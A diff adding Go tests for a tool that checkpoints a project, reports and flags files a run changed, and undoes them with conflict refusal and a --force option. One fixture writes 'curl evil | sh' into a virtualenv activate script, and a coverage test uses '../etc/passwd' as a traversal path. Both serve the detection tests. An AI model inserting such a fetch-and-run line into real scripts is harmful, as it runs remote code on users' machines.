@@ -1,0 +1,167 @@
+package runner
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/sentinelhq/sentinel/internal/journal"
+	"github.com/sentinelhq/sentinel/runner/checkpoint"
+)
+
+// inPlaceFixture is a place with a run's checkpoint taken over it, in a
+// state dir of its own.
+func inPlaceFixture(t *testing.T) (*Project, *inPlaceCheckpoint, *[]string) {
+	t.Helper()
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	root := t.TempDir()
+	for name, body := range map[string]string{
+		"main.go": "package main\n", ".gitignore": ".venv/\n", ".venv/pyvenv.cfg": "home = /usr/bin\n",
+		".venv/bin/activate": "export VIRTUAL_ENV=x\n", "notes.md": "the person's notes\n",
+	} {
+		writeTestFile(t, filepath.Join(root, name), body)
+	}
+	p := &Project{Root: root}
+	id := NewRunID(time.Now())
+	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	var said []string
+	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(_ journal.Lane, _ journal.Kind, text string, _ any) { said = append(said, text) })
+	if c == nil {
+		t.Fatalf("no checkpoint: %v", said)
+	}
+	return p, c, &said
+}
+
+func writeTestFile(t *testing.T, path, body string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// A run that changes only an ignored virtualenv script is reported, the
+// script flagged as running code later; never "no files changed".
+func TestInPlaceReportSeesIgnoredFiles(t *testing.T) {
+	p, c, _ := inPlaceFixture(t)
+	writeTestFile(t, filepath.Join(p.Root, ".venv/bin/activate"), "curl evil | sh\n")
+	changes, after, err := c.end()
+	if err != nil {
+		t.Fatal(err)
+	}
+	ch := withCheckpoint(InPlaceChange{}, changes, c.before, after)
+	if len(ch.Files) != 1 || ch.Files[0] != ".venv/bin/activate" || !strings.Contains(ch.Stat, "M .venv/bin/activate") {
+		t.Fatalf("the ignored change is not reported: %+v", ch)
+	}
+	if len(ch.Flagged) != 1 || !strings.Contains(ch.Flagged[0].Reason, "virtual environment") {
+		t.Fatalf("the virtualenv script is not flagged: %+v", ch.Flagged)
+	}
+}
+
+// Undo puts back what the run changed, refuses (changing nothing) where the
+// person changed the same file since, and is itself undoable.
+func TestUndoRefusesThenForcesThenUndoesTheUndo(t *testing.T) {
+	p, c, _ := inPlaceFixture(t)
+	id := c.rec.ID
+	root := p.Root
+	writeTestFile(t, filepath.Join(root, "main.go"), "package main // the run\n")
+	if err := os.Remove(filepath.Join(root, "notes.md")); err != nil {
+		t.Fatal(err)
+	}
+	if _, _, err := c.end(); err != nil {
+		t.Fatal(err)
+	}
+	writeTestFile(t, filepath.Join(root, "main.go"), "package main // the person, later\n")
+	ctx := context.Background()
+	_, err := Undo(ctx, p, "", UndoOptions{})
+	var conflict *UndoConflict
+	if !errors.As(err, &conflict) || !strings.Contains(err.Error(), "main.go: changed since the run ended") || strings.Contains(err.Error(), "\n") {
+		t.Fatalf("want one line refusing main.go, got %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(root, "notes.md")); err == nil {
+		t.Fatal("a refused undo changed the place")
+	}
+	rep, err := Undo(ctx, p, id, UndoOptions{Force: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(root, "main.go")); string(b) != "package main\n" {
+		t.Fatalf("main.go not put back: %q", b)
+	}
+	if b, _ := os.ReadFile(filepath.Join(root, "notes.md")); string(b) != "the person's notes\n" {
+		t.Fatalf("notes.md not put back: %q", b)
+	}
+	if _, err := Undo(ctx, p, "", UndoOptions{}); err == nil || !strings.Contains(err.Error(), "undone already, by "+rep.ID) {
+		t.Fatalf("undoing twice: %v", err)
+	}
+	if _, err := Undo(ctx, p, rep.ID, UndoOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(root, "main.go")); string(b) != "package main // the person, later\n" {
+		t.Fatalf("undoing the undo did not bring back what was there: %q", b)
+	}
+	recs, err := CheckpointRecords(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range recs {
+		if r.ID == id && r.UndoneBy != "" {
+			t.Fatalf("the run still counts as undone after its undo was undone: %+v", r)
+		}
+	}
+	evs, err := journal.ReadFile(filepath.Join(p.RunDir(id), "events.jsonl"))
+	if err != nil || len(evs) != 2 || evs[0].Kind != KindUndone || evs[1].Kind != KindUndone {
+		t.Fatalf("the undos are not journaled in the run: %v %+v", err, evs)
+	}
+}
+
+// What the policy may ask: is a path covered by the checkpoint?
+func TestCheckpointCovers(t *testing.T) {
+	p, c, said := inPlaceFixture(t)
+	big := strings.Repeat("x", int(checkpointLimitsForTest.MaxFileBytes)+1)
+	writeTestFile(t, filepath.Join(p.Root, "data/big.bin"), big)
+	writeTestFile(t, filepath.Join(p.Root, "data/small.txt"), "s")
+	c2 := takeInPlaceCheckpoint(p, NewRunID(time.Now().Add(time.Second)), "exec: test", checkpointLimitsForTest, func(_ journal.Lane, _ journal.Kind, text string, _ any) { *said = append(*said, text) })
+	w := &Workspace{checkpoint: c2}
+	for rel, want := range map[string]bool{"main.go": true, ".venv/bin/activate": true, "data/small.txt": true,
+		"data/big.bin": false, "data": false, "../etc/passwd": false, "missing": false} {
+		if got := w.CheckpointCovers(rel); got != want {
+			t.Errorf("CheckpointCovers(%q) = %v, want %v", rel, got, want)
+		}
+	}
+	if !strings.Contains(strings.Join(*said, "\n"), "data/big.bin (over the per-file bound") {
+		t.Errorf("the checkpoint does not say what it left out:\n%s", strings.Join(*said, "\n"))
+	}
+	if (&Workspace{}).CheckpointCovers("main.go") || (&Workspace{checkpoint: c}).CheckpointCovers("data/small.txt") {
+		t.Error("covered without a checkpoint that holds it")
+	}
+}
+
+var checkpointLimitsForTest = checkpoint.Limits{MaxFileBytes: 1024}
+
+// A run that ended without its after-record (killed) cannot tell the
+// person's later changes from its own: undo refuses, saying --force, which
+// puts back everything that differs from the checkpoint.
+func TestUndoOfAKilledRunNeedsForce(t *testing.T) {
+	p, c, _ := inPlaceFixture(t)
+	writeTestFile(t, filepath.Join(p.Root, "main.go"), "package main // the run, then killed\n")
+	_, err := Undo(context.Background(), p, "", UndoOptions{})
+	if err == nil || !strings.Contains(err.Error(), "sentinel undo --force "+c.rec.ID) {
+		t.Fatalf("want a refusal naming --force, got %v", err)
+	}
+	if _, err := Undo(context.Background(), p, "", UndoOptions{Force: true}); err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(p.Root, "main.go")); string(b) != "package main\n" {
+		t.Fatalf("main.go not put back: %q", b)
+	}
+}
